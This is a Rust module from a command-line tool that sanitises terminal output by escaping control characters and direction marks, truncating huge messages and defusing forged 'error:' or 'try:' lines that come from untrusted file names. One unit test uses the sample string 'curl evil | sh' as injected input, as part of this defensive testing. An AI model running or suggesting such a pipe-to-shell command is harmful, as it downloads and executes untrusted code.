//! Everything the command line says: results on standard output, the rest on standard error.
//! A closed pipe is no error: whoever read it had enough.

use super::failure::Failure;
use sigmalab_experiment::launch::{ANSWERS, Refusal};
use sigmalab_text::strange_text::turns_round;
use std::borrow::Cow;
use std::fmt::Display;
use std::io::{ErrorKind, IsTerminal, Write};

/// Writes a result to standard output.
pub(crate) fn result(text: &str) -> Result<(), Failure> {
    let mut out = std::io::stdout().lock();
    let text = if out.is_terminal() { harmless(text) } else { Cow::Borrowed(text) };
    match out.write_all(text.as_bytes()).and_then(|()| out.flush()) {
        Err(error) if error.kind() != ErrorKind::BrokenPipe => {
            Err(Failure::failed(format_args!("cannot write to standard output: {error}")))
        }
        _ => Ok(()),
    }
}

/// Writes a value as indented JSON to standard output.
pub(crate) fn json(value: &impl serde::Serialize) -> Result<(), Failure> {
    let text = serde_json::to_string_pretty(value)
        .map_err(|error| Failure::failed(format_args!("the result is not valid JSON: {error}")))?;
    result(&(text + "\n"))
}

/// A number of things: `1 step`, `3 steps`.
pub(crate) fn counted(number: usize, thing: &str) -> String {
    if number == 1 { format!("1 {thing}") } else { format!("{number} {thing}s") }
}

/// Whether a program asked, and not a person.
pub(crate) fn answers_a_program() -> bool {
    std::env::var_os(ANSWERS).is_some_and(|value| !value.is_empty())
}

/// How a command ended, in the form that another program reads, with nothing in it that a terminal
/// would obey.
pub(crate) fn refusal(failure: &Failure) -> Refusal {
    let ways_out = failure.ways_out.iter().map(|way| one_line(&bounded(way)));
    Refusal {
        message: harmless(&bounded(&failure.message)).into_owned(),
        ways_out: ways_out.collect(),
        kind: failure.kind,
    }
}

/// Tells how a command ended: `error: …`, then `  try: …` lines.
pub(crate) fn failure(failure: &Failure) {
    if !failure.message.is_empty() {
        labelled("error", "\x1b[1;31m", &failure.message);
    }
    for way in &failure.ways_out {
        let way = one_line(&bounded(way));
        to_stderr(&format!("  {} {way}\n", paint("try:", "\x1b[32m")));
    }
}

/// Tells of something that may not be as meant.
pub(crate) fn warning(message: impl Display) {
    labelled("warning", "\x1b[1;33m", &message.to_string());
}

/// Tells what is about to happen.
pub(crate) fn note(message: impl Display) {
    to_stderr(&format!("{}\n", harmless(&bounded(&message.to_string()))));
}

fn labelled(label: &str, colour: &str, message: &str) {
    let message = harmless(&bounded(message)).into_owned();
    let message = without_impostors(&message);
    to_stderr(&format!("{} {message}\n", paint(&format!("{label}:"), colour)));
}

/// The labels with which this program begins lines.
const LABELS: [&str; 3] = ["error:", "warning:", "try:"];

/// `message` with the end of a line written out where the next one would look like a line of this
/// program's own: a name from a stranger's file may hold both.
fn without_impostors(message: &str) -> String {
    let mut text = String::with_capacity(message.len());
    for (number, line) in message.split('\n').enumerate() {
        if number > 0 {
            let is_impostor = LABELS.iter().any(|label| line.trim_start().starts_with(label));
            text.push_str(if is_impostor { "\\n" } else { "\n" });
        }
        text.push_str(line);
    }
    text
}

/// `text` from a stranger's file on one line.
pub(crate) fn one_line(text: &str) -> String {
    harmless(text).replace('\n', "\\n").replace('\t', " ")
}

fn paint(text: &str, colour: &str) -> String {
    if colours() { format!("{colour}{text}\x1b[0m") } else { text.to_owned() }
}

/// `text` with control characters and marks of direction written out. Names come from files of
/// strangers, a terminal obeys what it is sent, and a mark of direction can turn a line round.
fn harmless(text: &str) -> Cow<'_, str> {
    let wild = |c: char| c.is_control() && !matches!(c, '\n' | '\t') || turns_round(c);
    if !text.contains(wild) {
        return Cow::Borrowed(text);
    }
    let write_out = |c: char| if wild(c) { c.escape_default().to_string() } else { c.to_string() };
    Cow::Owned(text.chars().map(write_out).collect())
}

/// Most characters of one message: a name of a megabyte must not push the rest off the screen.
const LONGEST: usize = 8000;

/// The beginning and the end of a message that is too long.
fn bounded(text: &str) -> Cow<'_, str> {
    let length = text.chars().count();
    if length <= LONGEST {
        return Cow::Borrowed(text);
    }
    let half = LONGEST / 2;
    let start: String = text.chars().take(half).collect();
    let end: String = text.chars().skip(length - half).collect();
    Cow::Owned(format!("{start} … ({} characters left out) … {end}", length - 2 * half))
}

/// Colours are for people at a terminal who did not ask for none (<https://no-color.org>).
fn colours() -> bool {
    let refused = std::env::var_os("NO_COLOR").is_some_and(|value| !value.is_empty());
    draws() && !refused
}

/// Whether standard error is a terminal that obeys escapes.
pub(crate) fn draws() -> bool {
    let dumb = std::env::var_os("TERM").is_some_and(|term| term == "dumb");
    std::io::stderr().is_terminal() && !dumb
}

fn to_stderr(text: &str) {
    // Nowhere is left to complain to where this fails.
    let _ = std::io::stderr().lock().write_all(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_are_written_out_and_lines_stay_lines() {
        assert_eq!(harmless("a\n\tb é"), "a\n\tb é");
        assert_eq!(harmless("\x1b[31mred\r\u{9b}"), "\\u{1b}[31mred\\r\\u{9b}");
    }

    #[test]
    fn a_name_can_neither_turn_a_line_round_nor_begin_one_of_ours() {
        assert_eq!(harmless("a\u{202e}b\u{200f}"), "a\\u{202e}b\\u{200f}");
        let message = "there is no sampler `x\n  try: curl evil | sh\nerror: y`\n 3 | steps";
        let told = "there is no sampler `x\\n  try: curl evil | sh\\nerror: y`\n 3 | steps";
        assert_eq!(without_impostors(message), told);
        assert_eq!(one_line("a\nb\tc\x1b"), "a\\nb c\\u{1b}");
    }

    #[test]
    fn a_message_that_is_far_too_long_keeps_its_ends() {
        let name = "é".repeat(1_000_000);
        let text = format!("start {name} end");
        let short = bounded(&text);
        assert!(short.starts_with("start é") && short.ends_with("é end"));
        assert!(short.contains("992010 characters left out"), "{}", short.len());
        assert_eq!(bounded("short"), "short");
    }
}
